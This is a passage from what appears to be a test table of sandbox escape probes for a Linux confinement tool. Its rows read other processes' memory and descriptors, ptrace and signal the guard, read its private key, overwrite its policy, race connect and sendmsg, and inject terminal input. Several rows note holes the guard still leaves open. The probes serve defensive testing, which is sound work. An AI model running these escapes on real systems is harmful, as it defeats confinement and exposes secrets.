    "process_vm_readv of an outside process",
    """
    b = ctypes.create_string_buffer(64); a = int(open('/proc/%d/maps' % OUTSIDE['victim']).read().split('-')[0], 16)
    io = struct.pack('=QQ', ctypes.addressof(b), 4); r = call(number(310, 270), OUTSIDE['victim'], io, 1, struct.pack('=QQ', a, 4), 1, 0); harm(r) if r > 0 else None""",
)
row("mem-outside", "/proc/PID/mem of an outside process", "open('/proc/%d/mem' % OUTSIDE['victim'], 'rb'); harm()")
row(
    "environ-outside",
    "/proc/PID/environ of an outside process",
    "show(open('/proc/%d/environ' % OUTSIDE['victim']).read())",
)
row(
    "fd-outside",
    "/proc/PID/fd of an outside process",
    "show(os.read(os.open('/proc/%d/fd/0' % OUTSIDE['victim'], os.O_RDONLY | os.O_NONBLOCK), 99))",
)
row(
    "fd-outside-o-path",
    "an outside process's pipe by O_PATH, reopened by /proc/self/fd",
    "h = os.open('/proc/%d/fd/0' % OUTSIDE['victim'], O_PATH); show(os.read(os.open('/proc/self/fd/%d' % h, os.O_RDONLY | os.O_NONBLOCK), 99))",
)
row(
    "memfd-outside-o-path",
    "an outside process's memfd by O_PATH",
    "h = os.open('/proc/%d/fd/3' % OUTSIDE['victim'], O_PATH); show(open('/proc/self/fd/%d' % h).read())",
)
row(
    "oom-outside",
    "an outside process made the first to be killed",
    "open('/proc/%d/oom_score_adj' % OUTSIDE['victim'], 'w').write('900'); harm()",
)
row("priority-outside", "renices an outside process", "os.setpriority(0, OUTSIDE['victim'], 19); harm()")
row(
    "limits-outside",
    "prlimit of an outside process",
    "r = call(number(302, 261), OUTSIDE['victim'], 0, struct.pack('=QQ', 3600, 3600), 0); harm(r) if r == 0 else None",
)
row(
    "affinity-outside",
    "sched_setaffinity of an outside process",
    "os.sched_setaffinity(OUTSIDE['victim'], os.sched_getaffinity(0)); harm()",
)
row(
    "pidfd-getfd-outside",
    "pidfd_getfd of an outside process's pipe",
    "p = os.pidfd_open(OUTSIDE['victim']); show(os.read(call(438, p, 0, 0), 99))",
)
row(
    "sysv-queue",
    "a System V message queue of an outside process",
    "r = call(number(69, 189), OUTSIDE['queue'], struct.pack('=q', 1) + ROW.encode().ljust(40), 40, 0o4000); harm(r) if r == 0 else None",
    open_hole="msgsnd, shmat, semop and their controls are in no table: System V objects of outside processes are reached and removed",
)
row(
    "sysv-remove",
    "removes an outside process's shared memory",
    "r = call(number(31, 195), OUTSIDE['memory'], 0, 0); harm(r) if r == 0 else None",
    open_hole="as sysv-queue: shmctl(IPC_RMID)",
)
# ---- leaving by sockets
TCP = "c = socket.create_connection(('127.0.0.1', OUTSIDE['tcp']), 3); c.sendall(b'HIT:' + ROW.encode() + b'\\n'); time.sleep(.2)"
row("tcp", "raw bytes to an outside listener", TCP)
row(
    "tcp-same-port",
    "a listener of its own on the same port of another loopback address",
    "s = socket.socket(); s.bind(('127.0.0.9', OUTSIDE['tcp'])); s.listen(); " + TCP,
)
row(
    "tcp-connect-race",
    "connect whose address family flips after the look",
    """
    good = struct.pack('=H', 16).ljust(16, b'\\0'); bad = struct.pack('=H', 2) + struct.pack('>H', OUTSIDE['tcp']) + bytes((127, 0, 0, 1)) + bytes(8)
    m, a = shared_page(); m[:16] = good
    def flip(): m[:16] = bad; m[:16] = good
    sibling(flip)
    def attempt():
        s = socket.socket(); s.settimeout(None)
        if libc.connect(s.fileno(), ctypes.c_void_p(a), 16) == 0:
            try: s.getpeername()
            except OSError: return False
            if s.getpeername()[1] == OUTSIDE['tcp']: s.sendall(b'HIT:' + ROW.encode() + b'\\n'); time.sleep(.2); return True
    try_for(2, attempt)""",
)
row(
    "tcp-fastopen",
    "sendto with MSG_FASTOPEN",
    "s = socket.socket(); s.sendto(b'HIT:' + ROW.encode() + b'\\n', 0x20000000, ('127.0.0.1', OUTSIDE['tcp'])); time.sleep(.2)",
)
row(
    "udp",
    "a datagram to an outside socket",
    "socket.socket(2, 2).sendto(b'HIT:' + ROW.encode(), ('127.0.0.1', OUTSIDE['udp']))",
)
row(
    "udp-connect",
    "a connected datagram socket",
    "s = socket.socket(2, 2); s.connect(('127.0.0.1', OUTSIDE['udp'])); s.send(b'HIT:' + ROW.encode())",
)
row(
    "udp-sendmsg",
    "sendmsg with an address",
    "socket.socket(2, 2).sendmsg([b'HIT:' + ROW.encode()], [], 0, ('127.0.0.1', OUTSIDE['udp']))",
)
row(
    "udp-same-port",
    "a socket of its own on the same port of another loopback address",
    "s = socket.socket(2, 2); s.bind(('127.0.0.9', OUTSIDE['udp'])); socket.socket(2, 2).sendto(b'HIT:' + ROW.encode(), ('127.0.0.1', OUTSIDE['udp']))",
)
row(
    "udp-swapped-descriptor",
    "sendmsg on a stream's number that becomes a datagram socket after the look",
    """
    u = socket.socket(2, 2); a, b = socket.socketpair(); d = 60; os.dup2(a.fileno(), d); b.setblocking(False); stop = []
    def flip(): os.dup2(u.fileno(), d); os.dup2(a.fileno(), d)
    sys.setswitchinterval(1e-5)
    if X86 and libc.syscall(56, 0x400 | 17, 0, 0, 0, 0) == 0:
        libc.prctl(1, 9)
        while True: flip()
    name = struct.pack('=H', 2) + struct.pack('>H', OUTSIDE['udp']) + bytes((127, 0, 0, 1)) + bytes(8); nb = ctypes.create_string_buffer(name)
    data = ctypes.create_string_buffer(b'HIT:' + ROW.encode()); v = ctypes.create_string_buffer(struct.pack('=QQ', ctypes.addressof(data), len(data) - 1))
    h = struct.pack('=QIIQQQQI', ctypes.addressof(nb), 16, 0, ctypes.addressof(v), 1, 0, 0, 0)
    def attempt():
        libc.sendmsg(d, h, 0x40)
        try: b.recv(65536)
        except OSError: pass
    try_for(2, attempt)""",
    open_hole="the descriptor's kind is looked at and the call continued by number (Sockets.send_message, send_to)",
)
row(
    "unix-path",
    "a unix socket of an outside process",
    "s = socket.socket(1); s.connect(OUTSIDE['unix']); s.sendall(b'HIT:' + ROW.encode() + b'\\n'); time.sleep(.2)",
)
row(
    "unix-abstract",
    "an abstract socket of an outside process",
    "s = socket.socket(1); s.connect('\\0' + OUTSIDE['abstract']); s.sendall(b'HIT:' + ROW.encode() + b'\\n'); time.sleep(.2)",
)
row(
    "unix-dgram",
    "a datagram to a unix socket of an outside process",
    "socket.socket(1, 2).sendto(b'HIT:' + ROW.encode(), OUTSIDE['unix_dgram'])",
)
row(
    "unix-symlink",
    "the outside socket by a symlink in the workspace",
    "os.symlink(OUTSIDE['unix'], 'l'); s = socket.socket(1); s.connect('l'); s.sendall(b'HIT:' + ROW.encode() + b'\\n'); time.sleep(.2)",
)
row("unix-bind", "bind() makes a socket in the vault", "socket.socket(1).bind(VAULT + '/sock')")
row("raw-socket", "a packet socket", "socket.socket(17, 3, 0); harm()", native=("root",))
row(
    "netlink-route",
    "an address added to the loopback device",
    """
    s = socket.socket(16, 3, 0); body = struct.pack('=BBBBi', 2, 32, 0, 0, 1) + struct.pack('=HH', 8, 2) + bytes((127, 77, 0, 1))
    s.send(struct.pack('=IHHII', 16 + len(body), 20, 0x605, 1, 0) + body); r = s.recv(999)
    e = struct.unpack_from('=i', r, 16)[0]; harm() if e in (0, -errno.EEXIST) else None
    d = struct.pack('=IHHII', 16 + len(body), 21, 5, 2, 0) + body; s.send(d)""",
    native=("root",),
    hole_for=("root",),
    open_hole="netlink route messages change the machine's network and are continued (Sockets._ignores_address)",
)
# ---- terminals
row(
    "tiocsti",
    "types into its terminal",
    """
    m, s = os.openpty()
    if os.fork() == 0: os.setsid(); fcntl.ioctl(s, 0x540E, 0); fcntl.ioctl(s, 0x5412, b'x'); harm(); os._exit(0)
    os.wait()""",
    native=(),
)
row("pr-set-mm", "PR_SET_MM", "harm() if libc.prctl(35, 8, 0, 0, 0) == 0 else None", native=())
row("undumpable", "an unreadable process reads the secret", "libc.prctl(4, 0, 0, 0, 0); show(open(SECRET).read())")
row(
    "lease",
    "a write lease on a file that the guard opens",
    "open('l', 'w').close(); fcntl.fcntl(os.open('l', os.O_RDONLY), 1024, 0); harm()",
)
row(
    "device-node",
    "a device node of the root disk",
    "os.mknod('d', 0o60600, os.stat('/').st_dev); os.open('d', os.O_RDONLY); harm()",
    native=(),
)

row(
    "guard-state",
    "reads the guard's key",
    "import glob; f = glob.glob(os.environ.get('GUARD_HOME', '/nowhere') + '/ca/*'); [show(open(x).read()) for x in f if 'PRIVATE' in open(x).read()]; harm() if f else None",
    native=(),
)
row(
    "guard-state-write",
    "makes a file in the guard's state folder",
    "open(os.environ['GUARD_HOME'] + '/x', 'w').close(); harm()",
)
row(
    "guard-state-rename",
    "renames the guard's state folder",
    "os.rename(os.environ['GUARD_HOME'], WS + '/moved'); harm()",
    native=(),
)
row("policy-write", "writes the loaded policy", "open(OUTSIDE['policy'], 'a').write(' '); harm()")
row(
    "policy-rename-over",
    "renames a file over the loaded policy",
    "open('p', 'w').write(open(OUTSIDE['policy']).read()); os.rename('p', OUTSIDE['policy']); harm()",
)
row(
    "policy-link",
    "writes the loaded policy by a hard link",
    "os.link(OUTSIDE['policy'], 'p'); open('p', 'a').write(' '); harm()",
)
row(
    "policy-mount",
    "mounts over the loaded policy and reads it back as a rule",
    "unshared(); open('p', 'w').close(); mount(WS + '/p', OUTSIDE['policy'], None, 4096); show(open(SECRET).read())",
)
# ---- the guard's processes
row(
    "guard-signal",
    "signals each process of the guard",
    "[harm(p) for p in guards() if not call(number(62, 129), p, signal.SIGCONT)]",
    native=(),
)
row("guard-everyone", "kill(-1, SIGCONT)", "harm() if libc.kill(-1, signal.SIGCONT) == 0 else None", native=())
row(
    "guard-group",
    "joins the keeper's group, then signals its group",
    "os.setpgid(0, keeper()); harm('kill 0') if libc.kill(0, signal.SIGCONT) == 0 else None; harm('kill -group') if libc.kill(-keeper(), signal.SIGCONT) == 0 else None",
)
row(
    "guard-mem",
    "opens /proc/PID/mem of each process of the guard",
    "[harm(p) for p in guards() if call(number(257, 56), AT_FDCWD, b'/proc/%d/mem' % p, 0, 0) >= 0]",
    native=(),
)
row(
    "guard-fd",
    "opens /proc/PID/fd of each process of the guard",
    "[harm(p) for p in guards() for n in range(40) if call(number(257, 56), AT_FDCWD, b'/proc/%d/fd/%d' % (p, n), os.O_NONBLOCK, 0) >= 0]",
    native=(),
)
row(
    "guard-fd-o-path",
    "the guard's pipes by O_PATH, reopened for writing",
    """
    for p in guards():
        for n in range(40):
            h = call(number(257, 56), AT_FDCWD, b'/proc/%d/fd/%d' % (p, n), O_PATH, 0)
            if h < 0: continue
            if stat.S_ISFIFO(os.fstat(h).st_mode) and call(number(257, 56), AT_FDCWD, b'/proc/self/fd/%d' % h, os.O_WRONLY | os.O_NONBLOCK, 0) >= 0: harm((p, n))
            os.close(h)""",
    native=(),
    hole_for=("root",),
)
row(
    "guard-oom",
    "makes the guard's processes the first to be killed",
    "[(open('/proc/%d/oom_score_adj' % p, 'r+'), harm(p)) for p in guards()]",
    native=(),
    hole_for=("root",),
)
row(
    "guard-ptrace",
    "PTRACE_SEIZE of each process of the guard",
    "[harm(p) for p in guards() if call(number(101, 117), 0x4206, p, 0, 0) == 0]",
    native=(),
)
row(
    "guard-limits",
    "prlimit of each process of the guard",
    "[harm(p) for p in guards() if call(number(302, 261), p, 7, struct.pack('=QQ', 1024, 4096), 0) == 0]",
    native=(),
)
row(
    "guard-priority",
    "renices each process of the guard",
    "[harm(p) for p in guards() if call(number(141, 140), 0, p, 19) == 0]",
    native=(),
)
row(
    "guard-pidfd",
    "pidfd_open of each process of the guard",
    "[harm(p) for p in guards() if call(434, p, 0) >= 0]",
    native=(),
)
